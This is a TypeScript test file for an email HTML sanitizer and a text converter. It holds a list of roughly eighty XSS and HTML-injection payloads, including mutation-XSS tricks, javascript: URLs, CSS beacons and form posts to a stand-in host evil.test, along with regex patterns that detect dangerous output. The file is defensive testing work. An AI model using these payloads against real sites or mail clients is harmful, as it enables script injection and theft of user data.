import { describe, expect, it } from "vitest";
import { safeHtml } from "@/lib/mail/safe-html";
import { htmlToText } from "@/lib/mail/to-text";
import { cpuMs } from "./mails";

/** Anything in the output that a browser would run, submit, load from us or frame. Text between tags may say what it likes. */
const dangers = [
	/<\/?(?:script|iframe|frame|object|embed|applet|form|input|button|select|textarea|svg|math|style|link|meta|base|video|audio|source|template|noscript|title|body|html|head|marquee|dialog|portal|xml|isindex|layer|bgsound|keygen)\b/i,
	/<[^>]*\son\w+\s*=/i,
	/<[^>]*\s(?:href|src)\s*=\s*"(?!https?:\/\/|mailto:|tel:|cid:|data:image\/(?:png|jpe?g|gif|webp);base64,)/i,
	/<[^>]*\s(?:srcdoc|formaction|action|background|poster|srcset|ping|xlink:href|id|name|class|data-\w+)\s*=/i,
	/<[^>]*style="[^"]*(?:url|expression|javascript|@import|\\|behavior|-moz-binding|position|image-set)/i,
];

const attacks = [
	"<script>alert(1)</script>",
	"<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
	"<scr<script>ipt>alert(1)</scr</script>ipt>",
	"<img src=x onerror=alert(1)>",
	"<img src=`x` onerror=alert(1)>",
	"<IMG SRC=javascript:alert(1)>",
	'<img src="jav&#x09;ascript:alert(1)">',
	"<img/src=x/onerror=alert(1)//",
	'<img """><script>alert(1)</script>">',
	"<img src=x:alert(alt) onerror=eval(src) alt=0>",
	"<svg onload=alert(1)>",
	"<svg><script>alert&#40;1&#41;</script></svg>",
	'<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
	"<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
	"<svg><style><img src=x onerror=alert(1)></style></svg>",
	'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
	'<math href="javascript:alert(1)">x</math>',
	"<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
	'<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
	'<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
	'<style><img title="</style><img src=x onerror=alert(1)>">',
	'<title><img title="</title><img src=x onerror=alert(1)>">',
	'<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
	"<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
	"<!--><img src=x onerror=alert(1)>-->",
	"<!-- --!><img src=x onerror=alert(1)> -->",
	"<![CDATA[<img src=x onerror=alert(1)>]]>",
	"<?xml version=\"1.0\"?><x xmlns:x='http://www.w3.org/1999/xhtml'><x:script>alert(1)</x:script></x>",
	'<a href="javascript:alert(1)">x</a>',
	'<a href=" &#14; javascript:alert(1)">x</a>',
	'<a href="java\nscript:alert(1)">x</a>',
	'<a href="JaVaScRiPt&colon;alert(1)">x</a>',
	'<a href="vbscript:msgbox(1)">x</a>',
	'<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
	'<a href="/admin/delete">x</a>',
	'<a href="//evil.test">x</a>',
	'<a href="https:evil">x</a>',
	'<a href="\\\\evil.test">x</a>',
	'<a href="?logout=1">x</a>',
	'<a href="#" onclick=alert(1)>x</a>',
	'<img src="/api/me">',
	'<img src="//evil.test/x.gif">',
	'<img src="data:image/svg+xml;base64,PHN2Zy8+">',
	'<img src="data:text/html,<script>alert(1)</script>">',
	'<img src=x srcset="/api/me 1x">',
	'<iframe src="https://evil.test"></iframe>',
	'<iframe srcdoc="<script>alert(1)</script>"></iframe>',
	'<object data="data:text/html,x"></object><embed src=x>',
	'<base href="https://evil.test/">',
	'<meta http-equiv="refresh" content="0;url=https://evil.test">',
	"<link rel=stylesheet href=https://evil.test/x.css>",
	"<form action=https://evil.test><input name=password><button formaction=javascript:alert(1)>go</button></form>",
	"<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
	"<details open ontoggle=alert(1)>",
	"<body onload=alert(1)>",
	"<marquee onstart=alert(1)>",
	'<p style="background:url(https://evil.test/t.gif)">x</p>',
	'<p style="background-image:url(//evil.test)">x</p>',
	'<p style="width:expression(alert(1))">x</p>',
	"<p style=\"color:red;@import 'https://evil.test'\">x</p>",
	'<p style="background:\\75rl(https://evil.test)">x</p>',
	"<p style=\"background:image-set('https://evil.test/x.png' 1x)\">x</p>",
	'<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">x</p>',
	'<p style="-moz-binding:url(x)">x</p>',
	"<p style='behavior:url(x.htc)'>x</p>",
	'<p style="color:red/*">*/;position:fixed">x</p>',
	'<div style="color:&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</div>',
	"<p id=x name=y class=z data-x=1>x</p>",
	"<img name=getElementById><form id=body><input name=attributes></form>",
	"<p title='\"><script>alert(1)</script>'>x</p>",
	"<p title=`x onmouseover=alert(1)>x</p>",
	'<table background="javascript:alert(1)"><td background=x>',
	"<font color='\"onmouseover=alert(1)'>x",
	"\u0000<scr\u0000ipt>alert(1)</script>",
	'<a\u0000 href="javascript\u0000:alert(1)">x</a>',
	"<%00script>alert(1)</script>",
	"<template><script>alert(1)</script></template>",
	"<select><option><style></option></select><img src=x onerror=alert(1)></style>",
	"<plaintext><script>alert(1)</script>",
	"<isindex type=image src=1 onerror=alert(1)>",
	"<portal src=https://evil.test>",
	"<x onclick=alert(1)>x</x><custom-tag onfocus=alert(1) tabindex=0>",
];

describe("attacks", () => {
	it.each(attacks)("%j", (attack) => {
		for (const html of [attack, `<div>${attack}</div>`, `<table><tr><td>${attack}`, `<p>${attack}</p><p>after</p>`]) {
			const clean = safeHtml(html) ?? "";
			for (const danger of dangers) expect(clean).not.toMatch(danger);
			expect(safeHtml(clean), "cleaning again changes nothing").toBe(clean);
		}
	});

	it("shows that the patterns find something", () => {
		expect(attacks.filter((attack) => dangers.some((danger) => danger.test(attack))).length).toBeGreaterThan(attacks.length * 0.85);
	});
});

describe("an honest mail", () => {
	it("keeps its looks", () => {
		const html =
			'<table width="600" bgcolor="#fff"><tr><td style="color:#333;padding:4px 8px;background-color:rgba(0, 0, 0, 0.1)"><b>Hi</b> <font color="red">there</font></td></tr></table>';
		const clean = safeHtml(html);
		expect(clean).toContain('bgcolor="#fff"');
		expect(clean).toContain("color:#333;padding:4px 8px;background-color:rgba(0, 0, 0, 0.1)");
		expect(clean).toContain("<b>Hi</b>");
	});

	it("keeps links, in a window of their own and without a referrer", () => {
		expect(safeHtml('<a href="https://example.com/?a=1&amp;b=2">x</a>')).toBe(
			'<a href="https://example.com/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">x</a>',
		);
		expect(safeHtml('<a href="mailto:a@b.test">x</a> <a href="tel:+34600">y</a>')).toMatch(/mailto:.*tel:/);
		expect(safeHtml('<a href="/x" target="_top">x</a>')).toBe("<a>x</a>");
	});

	it("keeps remote, embedded and enclosed images", () => {
		expect(safeHtml('<img src="https://example.com/a.png" alt="a">')).toContain('src="https://example.com/a.png"');
		expect(safeHtml('<img src="data:image/png;base64,iVBORw0KGgo=">')).toContain("data:image/png;base64,iVBORw0KGgo=");
		expect(safeHtml('<img src="CID:a%40b">')).toContain('src="cid:a@b"');
	});

	it("has no NUL", () => expect(safeHtml("<p>a\0b</p>")).toBe("<p>ab</p>"));
});

describe("too much", () => {
	it("is no HTML at all", () => {
		expect(safeHtml("x".repeat(1_000_001))).toBeNull();
		expect(safeHtml("<b>".repeat(20_001))).toBeNull();
	});

	it.each(["<div>", "<b>", "<a href='http://x.test'>", "<table><tr><td>", "<p style='color:rgb('>", "<!--", "<", "&amp;", "<svg><style>", "<p title='"])(
		"%s over and over takes less than two seconds",
		(piece) => {
			const count = Math.floor(19_999 / (piece.split("<").length - 1 || 1));
			expect(cpuMs(() => expect(safeHtml(piece.repeat(Math.min(count, 999_999 / piece.length)))).not.toBeNull())).toBeLessThan(2_000);
		},
	);
});

describe("htmlToText", () => {
	it("reads like the mail", () => {
		expect(
			htmlToText(
				"<h1>Hello</h1><p>Order <b>1&nbsp;2</b> &amp; <a href='https://example.com'>more</a></p><ul><li>one</li></ul><style>p{}</style><script>x</script>",
			),
		).toBe("Hello\n\nOrder 1\u00a02 & more\n\n * one");
	});

	it.each(["<div>", "<b>", "<table><tr><td>a", "<blockquote>a", "<ul><li>a", "<p>x</p>", "<br>"])("%s over and over takes less than two seconds", (piece) => {
		expect(
			cpuMs(() => {
				for (const count of [9_000 / piece.split("<").length, 1_500_000 / piece.length]) htmlToText(piece.repeat(count));
			}),
		).toBeLessThan(2_000);
	});

	it("still finds the words among too many tags", () => {
		const text = htmlToText(`<title>no</title><style>b{color:red}</style>${"<b>".repeat(25_000)}the words</b><script>alert(1)</script> and more`);
		expect(text).toContain("the words");
		expect(text).toContain("and more");
		expect(text).not.toMatch(/alert|color/);
	});
});
